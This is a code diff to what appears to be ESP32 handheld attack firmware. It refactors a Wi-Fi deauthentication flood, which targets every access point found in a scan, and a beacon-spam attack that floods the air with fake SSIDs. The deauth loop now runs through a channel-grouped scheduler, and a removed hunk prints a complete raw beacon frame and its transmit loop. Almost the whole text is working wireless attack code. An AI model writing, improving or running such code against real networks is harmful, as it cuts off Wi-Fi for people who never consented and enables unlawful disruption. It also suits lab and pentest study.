@@ -4,6 +4,8 @@
 // https://github.com/justcallmekoko/ESP32Marauder/wiki/arduino-ide-setup But change the file in:
 // C:\Users\<YOur User>\AppData\Local\Arduino15\packages\m5stack\hardware\esp32\2.0.9
 #include "wifi_atks.h"
+#include "beacon_pool.h"
+#include "deauth_scheduler.h"
 #include "core/display.h"
 #include "core/main_menu.h"
 #include "core/mykeyboard.h"
@@ -167,6 +169,7 @@ void deauthFloodAttack() {
     }
     wifiConnected = true;
     int nets;
+    DeauthScheduler scheduler;
     WiFi.mode(WIFI_AP);
 ScanNets:
     displayTextLine("Scanning..");
@@ -178,27 +181,16 @@ ScanNets:
         record.primary = WiFi.channel(i);
         ap_records.push_back(record);
     }
-    // Prepare deauth frame for each AP record
-    memcpy(deauth_frame, deauth_frame_default, sizeof(deauth_frame_default));
+    // Frames for every AP are built once, the scheduler groups them by channel
+    scheduler.clear();
+    for (const auto &record : ap_records) scheduler.addTarget(record.bssid, record.primary);
 
     uint32_t lastTime = millis();
     uint32_t rescan_counter = millis();
-    uint16_t count = 0;
-    uint8_t channel = 0;
+    uint32_t count = 0;
     drawMainBorderWithTitle("Deauth Flood");
     while (true) {
-        for (const auto &record : ap_records) {
-            channel = record.primary;
-            wsl_bypasser_send_raw_frame(&record, record.primary); // Sets channel to the same AP
-            tft.setCursor(10, tftHeight - 45);
-            tft.println("Channel " + String(record.primary) + "    ");
-            for (int i = 0; i < 100; i++) {
-                send_raw_frame(deauth_frame, sizeof(deauth_frame_default));
-                count += 3;
-                if (EscPress) break;
-            }
-            if (EscPress) break;
-        }
+        count += scheduler.run(100);
         // Update counter every 2 seconds
         if (millis() - lastTime > 2000) {
             drawMainBorderWithTitle("Deauth Flood");
@@ -207,14 +199,18 @@ ScanNets:
             tft.setCursor(10, tftHeight - 25);
             tft.println("Frames: " + String(count / 2) + "/s   ");
             tft.setCursor(10, tftHeight - 45);
-            tft.println("Channel " + String(channel) + "    ");
+            tft.println("Targets: " + String(scheduler.size()) + "    ");
             count = 0;
             lastTime = millis();
         }
-        if (millis() - rescan_counter > 60000) goto ScanNets; // re-scan networks for more relability
+        if (millis() - rescan_counter > 60000) {
+            scheduler.printReport();
+            goto ScanNets; // re-scan networks for more relability
+        }
 
         if (check(EscPress)) break;
     }
+    scheduler.printReport();
 
     wifiDisconnect();
     returnToMenu = true;
@@ -253,19 +249,18 @@ void target_atk(String tssid, String mac, uint8_t channel) {
         while (!check(SelPress)) { yield(); }
     }
     wifiConnected = true;
-    memcpy(deauth_frame, deauth_frame_default, sizeof(deauth_frame_default));
-    wsl_bypasser_send_raw_frame(&ap_record, channel);
+    DeauthScheduler scheduler;
+    scheduler.addTarget(ap_record.bssid, channel);
 
     // loop com o ataque mostrando o numero de frames por segundo
     uint32_t tmp = 0;
-    uint16_t count = 0;
+    uint32_t count = 0;
     tmp = millis();
     bool redraw = true;
     check(SelPress);
 
     tft.setTextColor(bruceConfig.priColor, bruceConfig.bgColor);
     tft.setTextSize(FM);
-    setCpuFrequencyMhz(240);
     while (1) {
         if (redraw) {
             // desenhar a tela
@@ -278,9 +273,8 @@ void target_atk(String tssid, String mac, uint8_t channel) {
             vTaskDelay(50 / portTICK_RATE_MS);
             redraw = false;
         }
-        // Send frame
-        send_raw_frame(deauth_frame, sizeof(deauth_frame_default));
-        count += 3; // the function above sends 3 frames each time
+        // Send frames
+        count += scheduler.run(50);
         // atualize counter
         if (millis() - tmp > 2000) {
             tft.setCursor(15, tftHeight - 23);
@@ -304,10 +298,6 @@ void target_atk(String tssid, String mac, uint8_t channel) {
     returnToMenu = true;
 }
 
-void generateRandomWiFiMac(uint8_t *mac) {
-    for (int i = 1; i < 6; i++) { mac[i] = random(0, 255); }
-}
-
 char randomName[32];
 char *randomSSID() {
     const char *charset = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
@@ -319,7 +309,6 @@ char *randomSSID() {
     return randomName;
 }
 
-char emptySSID[32];
 const char Beacons[] PROGMEM = {"Mom Use This One\n"
                                 "Abraham Linksys\n"
                                 "Benjamin FrankLAN\n"
@@ -421,203 +410,24 @@ const uint8_t packet[128] = {
     /*36*/ 0x00
 };
 
-// goes to next channel
-const uint8_t channels[] = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11}; // used Wi-Fi channels (available: 1-14)
-uint8_t channelIndex = 0;
-uint8_t wifi_channel = 1;
-
-void nextChannel() {
-    if (sizeof(channels) > 1) {
-        uint8_t ch = channels[channelIndex];
-        channelIndex++;
-        if (channelIndex > sizeof(channels)) channelIndex = 0;
-
-        if (ch != wifi_channel && ch >= 1 && ch <= 14) {
-            wifi_channel = ch;
-            // wifi_set_channel(wifi_channel);
-            esp_wifi_set_channel(wifi_channel, WIFI_SECOND_CHAN_NONE);
-        }
-    }
-}
-void beaconSpamList(const char list[]) {
-    // beacon frame definition
-    uint8_t beaconPacket[109] = {/*  0 - 3  */ 0x80,
-                                 0x00,
-                                 0x00,
-                                 0x00, // Type/Subtype: managment beacon frame
-                                 /*  4 - 9  */ 0xFF,
-                                 0xFF,
-                                 0xFF,
-                                 0xFF,
-                                 0xFF,
-                                 0xFF, // Destination: broadcast
-                                 /* 10 - 15 */ 0x01,
-                                 0x02,
-                                 0x03,
-                                 0x04,
-                                 0x05,
-                                 0x06, // Source
-                                 /* 16 - 21 */ 0x01,
-                                 0x02,
-                                 0x03,
-                                 0x04,
-                                 0x05,
-                                 0x06, // Source
-
-                                 // Fixed parameters
-                                 /* 22 - 23 */ 0x00,
-                                 0x00, // Fragment & sequence number (will be done by the SDK)
-                                 /* 24 - 31 */ 0x83,
-                                 0x51,
-                                 0xf7,
-                                 0x8f,
-                                 0x0f,
-                                 0x00,
-                                 0x00,
-                                 0x00, // Timestamp
-                                 /* 32 - 33 */ 0xe8,
-                                 0x03, // Interval: 0x64, 0x00 => every 100ms - 0xe8, 0x03 => every 1s
-                                 /* 34 - 35 */ 0x31,
-                                 0x00, // capabilities Tnformation
-
-                                 // Tagged parameters
-
-                                 // SSID parameters
-                                 /* 36 - 37 */ 0x00,
-                                 0x20, // Tag: Set SSID length, Tag length: 32
-                                 /* 38 - 69 */ 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20,
-                                 0x20, // SSID
-
-                                 // Supported Rates
-                                 /* 70 - 71 */ 0x01,
-                                 0x08,          // Tag: Supported Rates, Tag length: 8
-                                 /* 72 */ 0x82, // 1(B)
-                                 /* 73 */ 0x84, // 2(B)
-                                 /* 74 */ 0x8b, // 5.5(B)
-                                 /* 75 */ 0x96, // 11(B)
-                                 /* 76 */ 0x24, // 18
-                                 /* 77 */ 0x30, // 24
-                                 /* 78 */ 0x48, // 36
-                                 /* 79 */ 0x6c, // 54
-
-                                 // Current Channel
-                                 /* 80 - 81 */ 0x03,
-                                 0x01,          // Channel set, length
-                                 /* 82 */ 0x01, // Current Channel
-
-                                 // RSN information
-                                 /*  83 -  84 */ 0x30,
-                                 0x18,
-                                 /*  85 -  86 */ 0x01,
-                                 0x00,
-                                 /*  87 -  90 */ 0x00,
-                                 0x0f,
-                                 0xac,
-                                 0x02,
-                                 /*  91 -  92 */ 0x02,
-                                 0x00,
-                                 /*  93 - 100 */ 0x00,
-                                 0x0f,
-                                 0xac,
-                                 0x04,
-                                 0x00,
-                                 0x0f,
-                                 0xac,
-                                 0x04, /*Fix: changed 0x02(TKIP) to 0x04(CCMP) is default. WPA2 with TKIP not
-                                          supported by many devices*/
-                                 /* 101 - 102 */ 0x01,
-                                 0x00,
-                                 /* 103 - 106 */ 0x00,
-                                 0x0f,
-                                 0xac,
-                                 0x02,
-                                 /* 107 - 108 */ 0x00,
-                                 0x00};
-
-    // temp variables
-    int i = 0;
-    int j = 0;
-    char tmp;
-    uint8_t macAddr[6];
-    int ssidsLen = strlen_P(list);
-
-    // go to next channel
-    nextChannel();
-
-    while (i < ssidsLen) {
-        // read out next SSID
-        // read out next SSID
-        j = 0;
-        do {
-            tmp = pgm_read_byte(list + i + j);
-            j++;
-        } while (tmp != '\n' && j <= 32 && i + j < ssidsLen);
-
-        uint8_t ssidLen = j - 1;
-
-        // set MAC address
-        generateRandomWiFiMac(macAddr);
-
-        // write MAC address into beacon frame
-        memcpy(&beaconPacket[10], macAddr, 6);
-        memcpy(&beaconPacket[16], macAddr, 6);
-
-        // reset SSID
-        memcpy(&beaconPacket[38], emptySSID, 32);
-
-        // write new SSID into beacon frame
-        memcpy_P(&beaconPacket[38], &list[i], ssidLen);
-        // set channel for beacon frame
-        beaconPacket[82] = wifi_channel;
-        beaconPacket[34] = 0x31; // wpa
-
-        // send packet
-        for (int k = 0; k < 3; k++) {
-            esp_wifi_80211_tx(WIFI_IF_STA, beaconPacket, sizeof(beaconPacket), 0);
-            vTaskDelay(1 / portTICK_RATE_MS);
-        }
-        i += j;
-        if (EscPress) break; // Check the variable without changing it
+/***************************************************************************************
+** function: randomSSIDList
+** @brief: newline separated random SSIDs for the beacon pool
+***************************************************************************************/
+static String randomSSIDList() {
+    String list;
+    for (int i = 0; i < BEACON_RANDOM_SSIDS; i++) {
+        list += randomSSID();
+        list += '\n';
     }
+    return list;
 }
 
 void beaconAttack() {
     // change WiFi mode
     WiFi.mode(WIFI_MODE_STA);
-    int BeaconMode;
+    int BeaconMode = -1;
     String txt = "";
-    // create empty SSID
-    for (int i = 0; i < 32; i++) emptySSID[i] = ' ';
     // for random generator
     randomSeed(1);
     options = {
@@ -644,53 +454,50 @@ void beaconAttack() {
     addOptionToMainMenu();
     loopOptions(options);
 
-    wifiConnected = true; // display wifi icon
-    String beaconFile = "";
-    File file;
-    FS *fs;
-    if (BeaconMode != 3) {
-        drawMainBorderWithTitle("WiFi: Beacon SPAM");
-        displayTextLine(txt);
-    }
-
-    while (1) {
-        if (BeaconMode == 0) {
-            beaconSpamList(Beacons);
-        } else if (BeaconMode == 1) {
-            beaconSpamList(rickrollssids);
-        } else if (BeaconMode == 2) {
-            char *randoms = randomSSID();
-            beaconSpamList(randoms);
-        } else if (BeaconMode == 3) {
-            if (!file) {
-                options = {};
-
-                fs = nullptr;
-                if (setupSdCard()) {
-                    options.push_back({"SD Card", [&]() { fs = &SD; }});
-                }
-                options.push_back({"LittleFS", [&]() { fs = &LittleFS; }});
-                addOptionToMainMenu();
-
-                loopOptions(options);
-                if (fs != nullptr) beaconFile = loopSD(*fs, true, "TXT");
-                else goto END;
-                file = fs->open(beaconFile, FILE_READ);
-                beaconFile = file.readString();
-                beaconFile.replace("\r\n", "\n");
-                tft.drawPixel(0, 0, 0);
-                drawMainBorderWithTitle("WiFi: Beacon SPAM");
-                displayTextLine(txt);
-            }
+    BeaconPool pool;
+    uint32_t sweeps = 0;
+    if (BeaconMode == 0) {
+        pool.build(Beacons);
+    } else if (BeaconMode == 1) {
+        pool.build(rickrollssids);
+    } else if (BeaconMode == 2) {
+        pool.build(randomSSIDList().c_str());
+    } else if (BeaconMode == 3) {
+        options = {};
 
-            const char *randoms = beaconFile.c_str();
-            beaconSpamList(randoms);
+        FS *fs = nullptr;
+        if (setupSdCard()) {
+            options.push_back({"SD Card", [&]() { fs = &SD; }});
         }
-        if (check(EscPress) || returnToMenu) {
-            if (BeaconMode == 3) file.close();
-            break;
+        options.push_back({"LittleFS", [&]() { fs = &LittleFS; }});
+        addOptionToMainMenu();
+
+        loopOptions(options);
+        if (fs == nullptr) goto END;
+        String beaconFile = loopSD(*fs, true, "TXT");
+        File file = fs->open(beaconFile, FILE_READ);
+        if (!file) goto END;
+        beaconFile = file.readString();
+        file.close();
+        beaconFile.replace("\r\n", "\n");
+        pool.build(beaconFile.c_str());
+        tft.drawPixel(0, 0, 0);
+    }
+    if (!pool.start()) goto END;
+
+    wifiConnected = true; // display wifi icon
+    drawMainBorderWithTitle("WiFi: Beacon SPAM");
+    displayTextLine(txt);
+
+    while (!check(EscPress) && !returnToMenu) {
+        pool.pump(50);
+        // fresh random names once every channel has seen the current ones
+        if (BeaconMode == 2 && pool.sweeps() != sweeps) {
+            sweeps = pool.sweeps();
+            pool.build(randomSSIDList().c_str());
         }
     }
+    pool.stop();
 END:
     wifiDisconnect();
 }